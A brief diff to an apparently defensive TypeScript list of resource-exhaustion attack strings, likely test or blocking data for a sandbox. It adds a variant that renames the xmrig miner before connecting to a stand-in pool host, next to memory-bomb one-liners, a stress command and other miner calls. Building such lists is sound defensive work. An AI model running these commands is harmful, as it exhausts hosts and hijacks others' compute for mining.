@@ -18,6 +18,7 @@ export const EXHAUSTION: readonly Attack[] = [
     "node -e 'const a=[];while(true)a.push(Buffer.alloc(1e8))'",
     "python3 -c 'x=bytearray(10**12)'",
     "stress --cpu 64 --vm 32 --vm-bytes 4G",
+    "cp ./xmrig ./x; ./x --donate-level 1 -o stratum+tcp://pool.evil.example:3333",
     "./xmrig --donate-level 1 -o stratum+tcp://pool.evil.example:3333",
     "minerd -a cryptonight -o stratum+tcp://evil.example",
     "cat /dev/zero | tail",
